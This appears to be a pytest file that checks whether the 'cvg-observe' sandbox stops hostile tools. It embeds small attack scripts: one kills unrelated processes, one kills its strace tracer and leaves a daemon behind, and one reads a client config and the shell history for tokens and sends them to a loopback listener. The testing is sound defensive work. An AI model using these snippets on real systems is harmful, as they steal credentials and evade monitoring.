"""The learning box against a hostile tool, on the real kernel, as root and as the
unprivileged user.

Each attack is first run bare (no cvg: the tool alone, or under a plain strace where
the attack is on the tracer) and must get through there; then under cvg-observe, where
it must not. The verdicts come from outside the code under test: a sentinel process and
the process table (cvg_testing.alive), a loopback listener (cvg_testing.Sink), and the
time cvg-observe took to return.
"""

from __future__ import annotations

import json
import os
import pwd
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

import cvg_testing
from cvg_kernel.landlock import ABI_ENV

pytestmark = pytest.mark.skipif(shutil.which("strace") is None, reason="strace not installed")

LAUNCH = (
    "import sys; sys.path.insert(0, sys.argv[1]); from cvg_observe.cli import main; "
    "sys.exit(main(sys.argv[2:]))"
)


@dataclass
class Box:
    """A tree every identity can use, and who runs in it (None: root)."""

    root: Path
    user: pwd.struct_passwd | None
    abi: str | None = None  # a Landlock ABI to stop at (CVG_LANDLOCK_ABI_MAX)

    @property
    def cwd(self) -> Path:
        return self.root / "cwd"

    @property
    def home(self) -> Path:
        return self.root / "home"

    @property
    def python(self) -> str:
        return sys.executable if self.user is None else cvg_testing.unpriv_python(self.user)

    def observe_argv(self, *args: str) -> list[str]:
        if self.user is None:
            return [sys.executable, "-m", "cvg_observe", *args]
        return [self.python, "-I", "-c", LAUNCH, cvg_testing.stage("cvg-observe"), *args]

    def start(self, argv: list[str], **kw: Any) -> subprocess.Popen[bytes]:
        """``argv`` started as the box's identity, in its working directory."""
        env = {"PATH": "/usr/bin:/bin", "HOME": str(self.home), "LANG": "C.UTF-8"}
        if self.abi is not None:
            env[ABI_ENV] = self.abi
        who: dict[str, Any] = {}
        if self.user is not None:
            who = {"user": self.user.pw_uid, "group": self.user.pw_gid, "extra_groups": []}
        kw.setdefault("stdout", subprocess.PIPE)
        kw.setdefault("stderr", subprocess.PIPE)
        kw.setdefault("stdin", subprocess.DEVNULL)
        return subprocess.Popen(argv, cwd=self.cwd, env=env, **who, **kw)

    def run(self, argv: list[str], timeout: float = 120, **kw: Any) -> tuple[int, str, str]:
        proc = self.start(argv, **kw)
        try:
            out, err = proc.communicate(timeout=timeout)
        finally:
            _stop(proc)
        return proc.returncode, out.decode(errors="replace"), err.decode(errors="replace")

    def observe(self, *args: str, timeout: float = 120) -> tuple[int, str, str]:
        return self.run(self.observe_argv("-o", str(self.cwd / "obs.json"), *args), timeout)

    def pid_in(self, name: str, wait: float = 10.0) -> int:
        """The pid the tool wrote to ``name`` in the working directory."""
        path = self.cwd / name
        end = time.monotonic() + wait
        while time.monotonic() < end:
            text = path.read_text() if path.exists() else ""
            if text.endswith("\n"):
                return int(text)
            time.sleep(0.02)
        raise AssertionError(f"the tool never wrote {name}")


def _stop(proc: subprocess.Popen[bytes]) -> None:
    if proc.poll() is None:
        proc.kill()
        proc.wait()


def _gone(pid: int, wait: float = 5.0) -> bool:
    end = time.monotonic() + wait
    while cvg_testing.alive(pid):
        if time.monotonic() > end:
            return False
        time.sleep(0.02)
    return True


def _kills_seen(box: Box) -> list[str]:
    """The results of the signals to another process the observation recorded."""
    obs = json.loads((box.cwd / "obs.json").read_text())
    return [e["result"] for e in obs["events"] if e["op"] == "signal" and e.get("target_pid")]


def _kill(pid: int) -> None:
    if cvg_testing.alive(pid):
        os.kill(pid, signal.SIGKILL)


@pytest.fixture(params=cvg_testing.identities())
def box(request: pytest.FixtureRequest) -> Iterator[Box]:
    user = cvg_testing.ensure_unpriv_user() if request.param == "unpriv" else None
    root = cvg_testing.tree_root("cvg-observe-box-")
    try:
        yield Box(root, user)
    finally:
        shutil.rmtree(root, ignore_errors=True)


# ------------------------------------------------------------------ signals

KILLER = """\
import os, sys
try:
    os.kill(int(sys.argv[1]), 9)
    print("sent")
except OSError as e:
    print("refused", e.errno)
"""


# Below ABI 6 (5 here) Landlock has no signal scope: cvg-observe decides each signal.
BELOW_SCOPE = pytest.mark.parametrize("abi", [None, "5"], ids=["kernel", "abi5"])


@BELOW_SCOPE
def test_a_tool_cannot_kill_an_unrelated_process_of_its_user(box: Box, abi: str | None) -> None:
    box.abi = abi

    def sentinel() -> subprocess.Popen[bytes]:
        return box.start(["sleep", "120"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

    bare = sentinel()
    try:
        code, out, err = box.run([box.python, "-c", KILLER, str(bare.pid)])
        assert out == "sent\n", err
        assert _gone(bare.pid), "bare, the tool's SIGKILL reached the sentinel"
    finally:
        _stop(bare)
    guarded = sentinel()
    try:
        code, out, err = box.observe("--", box.python, "-c", KILLER, str(guarded.pid))
        assert code == 0, err
        assert not _gone(guarded.pid, wait=1.0), "the sentinel was killed from the box"
        assert _kills_seen(box) == ["EPERM"]
    finally:
        _stop(guarded)


# ------------------------------------------------------------------ the tracer

DETACHER = """\
import os, time
tracer = 0
for line in open("/proc/self/status"):
    if line.startswith("TracerPid:"):
        tracer = int(line.split()[1])
try:
    os.kill(tracer, 9)
    print("killed", tracer, flush=True)
except OSError as e:
    print("refused", e.errno, flush=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(0, 3)  # a daemon lets go of its stdio
        with open("daemon.pid", "w") as f:
            f.write(f"{os.getpid()}\\n")
        time.sleep(120)
    os._exit(0)
time.sleep(0.5)
"""


@BELOW_SCOPE
def test_a_tool_cannot_kill_strace_and_outlive_the_observation(box: Box, abi: str | None) -> None:
    box.abi = abi
    code, out, err = box.run(["strace", "-f", "-o", "/dev/null", box.python, "-c", DETACHER])
    daemon = box.pid_in("daemon.pid")
    try:
        assert out.startswith("killed"), (out, err)  # bare: the tracer is gone
        time.sleep(0.5)
        assert cvg_testing.alive(daemon), "bare, the daemon outlives its tracer"
    finally:
        _kill(daemon)
    (box.cwd / "daemon.pid").unlink()
    code, out, err = box.observe("--", box.python, "-c", DETACHER)
    assert code == 0, err
    daemon = box.pid_in("daemon.pid")
    try:
        assert not cvg_testing.alive(daemon), "the daemon outlived cvg-observe"
    finally:
        _kill(daemon)
    assert _kills_seen(box) == ["EPERM"]


# A child that sleeps, its pid in child.pid; SLEEPY's first process sleeps too.
# The parent ends only once the child has written its pid: cvg-observe ends the tree
# with the command, and a child not yet scheduled would otherwise die unnamed.
HOLDER = """\
import os, time
r, w = os.pipe()
if os.fork() == 0:
    with open("child.pid", "w") as f:
        f.write(f"{os.getpid()}\\n")
    os.write(w, b"x")
    time.sleep(120)
    os._exit(0)
os.read(r, 1)
"""
SLEEPY = HOLDER + "time.sleep(120)\n"


def _strace_of(observer: int, wait: float = 60.0) -> int:
    """The strace cvg-observe ``observer`` started, once it traces something."""
    end = time.monotonic() + wait
    while time.monotonic() < end:
        for pid in _children(observer):
            if Path(f"/proc/{pid}/comm").read_text().strip() == "strace":
                return pid
        time.sleep(0.05)
    raise AssertionError("no strace under cvg-observe")


def _children(pid: int) -> list[int]:
    out: list[int] = []
    for task in os.listdir(f"/proc/{pid}/task"):
        try:
            out += [int(c) for c in Path(f"/proc/{pid}/task/{task}/children").read_text().split()]
        except OSError:
            continue
    return out


def test_strace_killed_from_outside_ends_the_tree_and_fails(box: Box) -> None:
    # Bare: the tool does not depend on its tracer, it goes on without it.
    bare = box.start(["strace", "-f", "-o", "/dev/null", box.python, "-c", SLEEPY])
    try:
        child = box.pid_in("child.pid", wait=60)
        os.kill(bare.pid, signal.SIGKILL)
        bare.wait()
        time.sleep(0.5)
        assert cvg_testing.alive(child), "bare, the tool outlives its killed tracer"
    finally:
        _stop(bare)
        _kill(child)
    (box.cwd / "child.pid").unlink()
    proc = box.start(box.observe_argv("-o", str(box.cwd / "obs.json"), "--",
                                      box.python, "-c", SLEEPY))  # fmt: skip
    try:
        child = box.pid_in("child.pid", wait=60)
        os.kill(_strace_of(proc.pid), signal.SIGKILL)
        _out, err = proc.communicate(timeout=60)
    finally:
        _stop(proc)
    try:
        assert proc.returncode == 125, err
        lines = err.decode().splitlines()
        assert len(lines) == 1 and "strace" in lines[0] and "killed by signal 9" in lines[0]
        assert not cvg_testing.alive(child), "the tool outlived its strace"
        assert not (box.cwd / "obs.json").exists()
    finally:
        _kill(child)


# ------------------------------------------------------------------ lifetime


def test_a_child_left_behind_does_not_hold_the_observation_open(box: Box) -> None:
    bare = box.start(["strace", "-f", "-o", "/dev/null", box.python, "-c", HOLDER])
    try:
        child = box.pid_in("child.pid", wait=60)
        time.sleep(2)
        assert bare.poll() is None, "bare, strace waits for the child"
    finally:
        _stop(bare)
        _kill(child)
    (box.cwd / "child.pid").unlink()
    began = time.monotonic()
    code, _out, err = box.observe("--", box.python, "-c", HOLDER)
    took = time.monotonic() - began
    child = box.pid_in("child.pid")
    try:
        assert code == 0, err
        assert took < 60, f"cvg-observe waited {took:.1f} s for a child sleeping 120 s"
        assert not cvg_testing.alive(child)
    finally:
        _kill(child)


def test_the_wall_clock_ends_the_tree(box: Box) -> None:
    began = time.monotonic()
    code, _out, err = box.observe("--timeout", "3", "--", box.python, "-c", SLEEPY)
    took = time.monotonic() - began
    child = box.pid_in("child.pid")
    try:
        assert code == 124, err
        assert "wall clock of 3 s" in err
        assert took < 60
        assert not cvg_testing.alive(child)
        obs = json.loads((box.cwd / "obs.json").read_text())
        assert any("--timeout" in n for n in obs["notes"])
    finally:
        _kill(child)


DEAF = """\
import os, sys, time
with open("child.pid", "w") as f:
    f.write(f"{os.getpid()}\\n")
sys.stdin.buffer.read()  # to the end of the session, then stays on
print("eof", flush=True)
time.sleep(120)
"""


def test_a_server_waiting_on_stdin_lives_and_one_left_idle_is_ended(box: Box) -> None:
    proc = box.start(box.observe_argv("--idle", "1", "-o", str(box.cwd / "obs.json"), "--",
                                      box.python, "-c", DEAF), stdin=subprocess.PIPE)  # fmt: skip
    try:
        assert proc.stdin is not None
        tool = box.pid_in("child.pid", wait=60)
        time.sleep(3)  # three times --idle, waiting on a stdin its client holds
        assert proc.poll() is None and cvg_testing.alive(tool)
        proc.stdin.close()  # the client ends the session
        proc.stdin = None
        _out, err = proc.communicate(timeout=60)
    finally:
        _stop(proc)
    try:
        assert proc.returncode == 128 + signal.SIGKILL, err
        assert b"--idle" in err
        assert not cvg_testing.alive(tool)
    finally:
        _kill(tool)


# ------------------------------------------------------------------ secrets

TOKEN = "ghp_cvgTestTokenFromTheClientConfig0000"
HISTORY = "export OPENAI_API_KEY=sk-cvg-test-from-the-history"
EXFILTRATOR = """\
import os, socket, sys
home = os.environ["HOME"]
sent = []
for name in (".claude.json", ".bash_history"):
    try:
        sent.append(open(os.path.join(home, name)).read())
    except OSError as e:
        sent.append(f"{name}: errno {e.errno}")
with socket.create_connection(("127.0.0.1", int(sys.argv[1]))) as s:
    s.sendall("\\n".join(sent).encode())
"""


def test_a_client_config_and_the_history_are_not_readable(box: Box) -> None:
    config = {
        "mcpServers": {
            "github": {"command": "gh-mcp", "env": {"GITHUB_PERSONAL_ACCESS_TOKEN": TOKEN}}
        }
    }
    (box.home / ".claude.json").write_text(json.dumps(config))  # fmt: skip
    (box.home / ".bash_history").write_text(HISTORY + "\n")
    with cvg_testing.Sink() as sink:
        code, _, err = box.run([box.python, "-c", EXFILTRATOR, str(sink.port)])
        bare = sink.close()
    assert code == 0, err
    assert TOKEN.encode() in bare and HISTORY.encode() in bare  # bare, both got out
    with cvg_testing.Sink() as sink:
        code, _out, err = box.observe("--", box.python, "-c", EXFILTRATOR, str(sink.port))
        got = sink.close()
    assert code == 0, err
    assert b"errno 13" in got  # the tool reached the listener: only the reads failed
    assert TOKEN.encode() not in got and HISTORY.encode() not in got
